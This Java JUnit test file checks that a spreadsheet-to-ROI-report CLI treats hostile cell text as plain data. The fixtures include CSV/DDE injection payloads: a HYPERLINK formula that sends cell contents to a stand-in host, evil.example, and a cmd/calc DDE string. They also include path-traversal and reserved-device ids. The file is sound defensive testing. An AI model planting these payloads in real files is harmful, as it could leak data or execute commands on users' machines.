package gpuroi.cli;

import com.fasterxml.jackson.databind.JsonNode;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Text from a spreadsheet is data, whatever it looks like: formulas, markup, right-to-left scripts,
 * paths. Each test converts a real workbook through {@code gpuroi convert} (or the hot folder) and
 * reads back everything written.
 */
class HostileTextTest {
    @TempDir
    Path dir;

    /** Texts a spreadsheet would run as a formula (CSV/DDE injection) if they were written as formulas. */
    private static final List<String> FORMULA_LIKE = List.of(
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1)",
            "-2+3",
            "=1+1\" & \"quote's");

    @Test
    void formulaLikeIdsAndModelsAreWrittenAsTextInEverySheetInTheJsonAndInTheMemos() throws Exception {
        List<Object[]> rows = new ArrayList<>();
        for (int i = 0; i < FORMULA_LIKE.size(); i++) {
            rows.add(HostileFleets.cluster(FORMULA_LIKE.get(i), FORMULA_LIKE.get((i + 1) % FORMULA_LIKE.size())));
        }
        Path input = HostileFleets.write(dir.resolve("inject.xlsx"), rows);

        CliRun run = CliRun.of("convert", "--valuation-date", "2026-01-01", input.toString(), "--json");

        assertThat(run.exitCode()).as(run.err()).isZero();
        JsonNode clusters = run.clusters();
        assertThat(clusters.findValuesAsText("id")).containsExactlyElementsOf(FORMULA_LIKE);
        List<Cell> cells = HostileFleets.cells(dir.resolve("inject.roi.xlsx"));
        for (String text : FORMULA_LIKE) {
            assertThat(cells).as("cells showing %s", text)
                    .filteredOn(c -> c.getCellType() == CellType.STRING && c.getStringCellValue().equals(text))
                    .extracting(c -> c.getSheet().getSheetName())
                    .contains("Fleet", "ROI Summary");
        }
        for (Cell cell : cells) {
            if (cell.getCellType() == CellType.FORMULA) {
                assertThat(cell.getCellFormula()).as(cell.getSheet().getSheetName() + "!" + cell.getAddress())
                        .doesNotContain("HYPERLINK", "cmd", "SUM(1)", "calc", "quote");
            }
        }
        Path memos = dir.resolve("inject.roi.memos");
        try (Stream<Path> files = Files.list(memos)) {
            assertThat(files).hasSize(FORMULA_LIKE.size() + 1);
        }
        String portfolio = HostileFleets.pdfText(memos.resolve("portfolio.pdf"));
        assertThat(portfolio).contains("@SUM(1)", "-2+3", "+cmd|' /C calc'!A0");
        assertThat(HostileFleets.pdfText(memos.resolve("2_3.pdf"))).contains("-2+3");
    }

    /** Ids in right-to-left scripts, emoji, combining marks, zero-width and control characters, and paths. */
    private static final List<String> AWKWARD_IDS = List.of(
            "مجموعة-١",
            "אשכול ב",
            "🚀 rocket pod",
            "e\u0301te\u0301",
            "zero\u200Bwidth\u200Fmark",
            "../../etc/x",
            "..\\..\\windows\\x",
            "/abs/olute",
            "CON",
            "nul.txt",
            "tab\there\nnew line",
            "...",
            "a/../../b");

    @Test
    void awkwardIdsGiveMemosWithSafeNamesInsideTheMemoFolderAndTheIdsInTheirText() throws Exception {
        List<Object[]> rows = new ArrayList<>();
        for (String id : AWKWARD_IDS) {
            rows.add(HostileFleets.cluster(id, "H100 SXM"));
        }
        Path work = Files.createDirectories(dir.resolve("a/b/c"));
        Path input = HostileFleets.write(work.resolve("fleet.xlsx"), rows);

        CliRun run = CliRun.of("convert", "--valuation-date", "2026-01-01", input.toString(), "--json");

        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.clusters().findValuesAsText("id"))
                .containsExactlyElementsOf(AWKWARD_IDS.stream().map(String::strip).toList());
        Path memos = work.resolve("fleet.roi.memos");
        List<String> names;
        try (Stream<Path> files = Files.list(memos)) {
            names = files.map(p -> p.getFileName().toString()).toList();
        }
        assertThat(names).hasSize(AWKWARD_IDS.size() + 1)
                .allSatisfy(name -> assertThat(name).matches("[A-Za-z0-9_][A-Za-z0-9._-]*\\.pdf").doesNotContain(".."))
                .noneMatch(name -> name.matches("(?i)(con|nul)(\\..*)?"));
        try (Stream<Path> everything = Files.walk(dir)) {
            assertThat(everything.filter(Files::isRegularFile).map(p -> dir.relativize(p).toString()))
                    .allMatch(p -> p.startsWith("a/b/c/fleet.roi.memos/") || p.equals("a/b/c/fleet.xlsx") || p.equals("a/b/c/fleet.roi.xlsx"));
        }
        // DejaVu Sans has the Hebrew and Arabic letters; the PDF stores them in logical or visual order.
        String hebrew = HostileFleets.pdfText(memos.resolve("cluster-2.pdf"));
        assertThat(hebrew.contains("אשכול") || hebrew.contains("לוכשא")).as(hebrew).isTrue();
        String arabic = HostileFleets.pdfText(memos.resolve("cluster.pdf"));
        assertThat(arabic).containsAnyOf("مجموعة", "ةعومجم", "\u0645");
        String portfolio = HostileFleets.pdfText(memos.resolve("portfolio.pdf"));
        assertThat(portfolio).contains("../../etc/x", "/abs/olute", "CON");
        assertThat(HostileFleets.cells(work.resolve("fleet.roi.xlsx")))
                .filteredOn(c -> c.getSheet().getSheetName().equals("ROI Summary") && c.getCellType() == CellType.STRING)
                .extracting(Cell::getStringCellValue)
                .contains("مجموعة-١", "אשכול ב", "🚀 rocket pod", "e\u0301te\u0301", "../../etc/x");
    }

    @Test
    void theHotFolderKeepsEveryOutputOfAwkwardIdsInsideItsOutFolder() throws Exception {
        List<Object[]> rows = new ArrayList<>();
        for (String id : AWKWARD_IDS) {
            rows.add(HostileFleets.cluster(id, "H100 SXM"));
        }
        Path inbox = Files.createDirectories(dir.resolve("hot/inbox"));
        HostileFleets.write(inbox.resolve("מחסן ‏RTL.xlsx"), rows);

        CliRun run = WatchOnceTest.once(dir.resolve("hot"));

        assertThat(run.exitCode()).as(run.err() + run.out()).isZero();
        assertThat(WatchFixtures.names(dir.resolve("hot/done"))).containsExactly("מחסן ‏RTL.xlsx");
        Path out = dir.resolve("hot/out/מחסן ‏RTL");
        assertThat(WatchFixtures.names(out.resolve("מחסן ‏RTL.roi.memos"))).hasSize(AWKWARD_IDS.size() + 1);
        try (Stream<Path> everything = Files.walk(dir)) {
            assertThat(everything.filter(Files::isRegularFile).map(p -> dir.relativize(p).toString()))
                    .allMatch(p -> p.startsWith("hot/out/מחסן ‏RTL/") || p.startsWith("hot/done/")
                            || p.equals("hot/status.json") || p.equals("hot/.gpuroi-watch.lock"));
        }
    }
}
